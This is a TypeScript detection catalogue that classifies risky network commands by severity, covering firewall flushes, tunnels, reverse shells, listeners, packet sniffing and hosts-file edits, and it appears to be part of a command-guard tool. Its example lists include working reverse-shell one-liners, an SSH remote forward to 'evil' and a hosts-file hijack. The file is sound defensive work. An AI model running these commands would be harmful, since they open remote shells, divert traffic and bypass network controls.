/** Network, firewall, tunnels and hops to other hosts. */

import type { CommandTest } from '../matching/command-test.ts';
import {
  all,
  any,
  directlyThrough,
  flag,
  flagValue,
  like,
  oneOf,
  operand,
  operands,
  pathSet,
  sub,
  when,
  without,
  word,
  writes,
} from '../matching/command-test.ts';
import type { CommandView } from '../matching/command-view.ts';
import type { CatalogueEntry } from './entry.ts';
import { anyThat, on } from './entry.ts';

const IPTABLES = 'iptables ip6tables iptables-legacy iptables-nft ip6tables-legacy ip6tables-nft ebtables arptables';
const FIREWALLS = /^(?:firewalld|ufw|nftables|iptables|ip6tables|netfilter-persistent|shorewall)(?:\.service)?$/;
const NETCATS = 'nc ncat netcat nc.traditional nc.openbsd';
const NAME_FILES = pathSet(
  '/etc/hosts',
  '/etc/resolv.conf',
  '/etc/nsswitch.conf',
  '/etc/systemd/resolved.conf',
  '/etc/systemd/resolved.conf.d/**',
);

/** Redirects to or from bash's network devices. */
function usesNetworkDevice(view: CommandView): boolean {
  return view.command.redirs.some((redir) => /^\/dev\/(?:tcp|udp)\//.test(redir.target?.text ?? ''));
}

function runsModule(modules: RegExp): CommandTest {
  return (view) => {
    const words = view.command.args.map((one) => one.text);
    return words.some((text, index) => words[index - 1] === '-m' && modules.test(text)) ? 'yes' : 'no';
  };
}

export const NET_ENTRIES: readonly CatalogueEntry[] = [
  {
    id: 'net.firewall-flush',
    severity: 'critical',
    why: 'Flushing or disabling the firewall opens or cuts off the host.',
    cases: [
      on(IPTABLES, flag('-F|--flush|-X|-P|--policy')),
      on(
        'iptables-restore ip6tables-restore iptables-nft-restore iptables-legacy-restore',
        without('--test|-t|--help'),
      ),
      on('nft', sub('flush *', 'delete table')),
      on('ufw', sub('disable', 'reset')),
      on('firewall-cmd', word(oneOf('--panic-on'))),
      on('pfctl', flag('-F|-d')),
      on('systemctl', all(sub('stop', 'disable', 'mask', 'kill'), operand(like(FIREWALLS)))),
      on('service rc-service invoke-rc.d', all(sub('* stop'), operand(like(FIREWALLS)))),
    ],
    positive: ['iptables -F', 'nft flush ruleset', 'ufw disable', 'iptables -P INPUT DROP'],
    negative: ['iptables -L -n', 'ufw status', 'nft list ruleset'],
  },
  {
    id: 'net.firewall-change',
    severity: 'high',
    why: 'Rule changes open paths or lock operators out.',
    cases: [
      on(IPTABLES, flag('-A|--append|-D|--delete|-I|--insert|-R|--replace|-N|--new-chain|-E')),
      on('ufw', sub('allow', 'deny', 'delete', 'reject', 'limit', 'insert', 'route', 'enable', 'default')),
      on('firewall-cmd', word(like(/^--(?:add|remove|set|change|new|delete)-/))),
      on('nft', any(sub('add *', 'insert *', 'delete *', 'replace *', 'create *'), flag('-f|--file'))),
      on('ipset', sub('add', 'del', 'create', 'destroy', 'flush', 'swap', 'restore')),
    ],
    positive: ['iptables -A INPUT -p tcp --dport 22 -j DROP', 'ufw allow 3306', 'firewall-cmd --add-port=80/tcp'],
    negative: ['iptables -S', 'firewall-cmd --list-all'],
  },
  {
    id: 'net.iface-down',
    severity: 'critical',
    why: 'Taking a link down can cut the operator off.',
    cases: [
      on(
        'ip',
        sub(
          'link set',
          'l set',
          'li set',
          'addr flush',
          'addr del',
          'address flush',
          'address del',
          'a flush',
          'a del',
          'link delete',
          'link del',
          'l del',
        ),
      ),
      on('ifdown'),
      on('ifconfig', sub('* down')),
      on('wg-quick', sub('down')),
      on(
        'nmcli',
        sub(
          'con down',
          'connection down',
          'networking off',
          'n off',
          'device disconnect',
          'dev disconnect',
          'd disconnect',
          'con delete',
          'connection delete',
          'c down',
          'c delete',
          'radio * off',
        ),
      ),
      on(
        'systemctl',
        all(
          sub('stop', 'disable', 'mask', 'kill'),
          operand(like(/^(?:NetworkManager|networking|systemd-networkd|network)(?:\.service)?$/)),
        ),
      ),
    ],
    positive: ['ip link set eth0 down', 'ifdown eth0', 'nmcli con down x'],
    negative: ['ip link show', 'ip -br a'],
  },
  {
    id: 'net.route-change',
    severity: 'high',
    why: 'Route changes black-hole or divert traffic.',
    cases: [
      on(
        'ip',
        sub(
          'route del',
          'route delete',
          'route add',
          'route replace',
          'route flush',
          'route append',
          'r del',
          'r add',
          'r delete',
          'r replace',
          'r flush',
          'ro del',
          'ro add',
          'route change',
          'rule add',
          'rule del',
          'rule flush',
          'ru add',
          'ru del',
        ),
      ),
      on('route', sub('add', 'del', 'delete', 'flush')),
    ],
    positive: ['ip route del default', 'route add -net 10.0.0.0/8 gw 1.1.1.1'],
    negative: ['ip route show', 'ip r get 1.1.1.1'],
  },
  {
    id: 'net.tunnel',
    severity: 'high',
    why: 'Port forwards and tunnels bypass network controls and the recording.',
    cases: [
      on(
        'ssh autossh slogin',
        any(flag('-R|-L|-D|-w|-W'), flagValue('-o', like(/^\s*(?:(?:Remote|Local|Dynamic)Forward|Tunnel)\s*[= ]/i))),
      ),
      on('socat', word(like(/(?:TCP|UDP|OPENSSL|SSL|UNIX|SCTP|VSOCK)[46]?-(?:LISTEN|L):|^TUN:/i))),
      on(
        'ngrok chisel frpc frps cloudflared sshuttle bore localtunnel lt gost rathole inlets stunnel stunnel4 iodine dnscat2 zrok pagekite proxytunnel ptunnel devtunnel',
        without('--version|--help|-V'),
      ),
    ],
    positive: [
      'ssh -R 8080:localhost:22 evil',
      'ssh -D 1080 h',
      'ngrok tcp 22',
      'socat TCP-LISTEN:4444,fork TCP:db:5432',
    ],
    negative: ['ssh h uptime', 'ssh -V'],
  },
  {
    id: 'net.reverse-shell',
    severity: 'critical',
    why: 'Connects a shell to a remote host.',
    cases: [
      anyThat('redirects', when(usesNetworkDevice)),
      on(NETCATS, flag('-e|-c|--exec|--sh-exec|--lua-exec')),
      on('socat', word(like(/^(?:exec|system|shell):/i))),
    ],
    positive: ['bash -i >& /dev/tcp/1.2.3.4/443 0>&1', 'nc -e /bin/sh 1.2.3.4 443', 'socat exec:bash tcp:1.2.3.4:9'],
    negative: ['nc -z host 22', 'curl http://x'],
  },
  {
    id: 'net.listener',
    severity: 'medium',
    why: 'A raw listener receives files or shells.',
    cases: [
      on(NETCATS, flag('-l|--listen')),
      on('python*', runsModule(/^(?:http\.server|SimpleHTTPServer|pyftpdlib|uploadserver)$/)),
      on('php', flag('-S')),
      on('busybox', sub('httpd', 'telnetd', 'ftpd')),
      on('httpd telnetd', directlyThrough('busybox')),
    ],
    positive: ['nc -lvp 4444', 'python3 -m http.server'],
    negative: ['ss -lnt', 'nc -zv h 80'],
  },
  {
    id: 'net.sniff',
    severity: 'high',
    why: 'Packet capture records credentials and personal data.',
    cases: [
      on(
        'tcpdump tshark dumpcap ngrep ettercap bettercap tcpflow wireshark snoop',
        without('--version|-h|--help|-D|--list-interfaces'),
      ),
    ],
    positive: ['tcpdump -i eth0 -w a.pcap', 'tshark -i any'],
    negative: ['tcpdump --version'],
  },
  {
    id: 'net.ssh-hop',
    severity: 'medium',
    why: 'A hop to another host leaves the policy and labels of this target.',
    cases: [on('ssh mosh slogin telnet rlogin rsh', all(operands(1), without('-V|-Q|-G|--version|--help')))],
    positive: ['ssh db01', 'ssh root@10.0.0.5 uptime', 'mosh db01'],
    negative: ['ssh -V', 'ssh-keygen -l -f k'],
  },
  {
    id: 'net.dns-hosts',
    severity: 'high',
    why: 'Changing resolvers or hosts diverts traffic.',
    cases: [anyThat('writes', writes(NAME_FILES))],
    positive: ['echo "1.2.3.4 bank" >> /etc/hosts', 'vim /etc/resolv.conf'],
    negative: ['cat /etc/hosts'],
  },
];
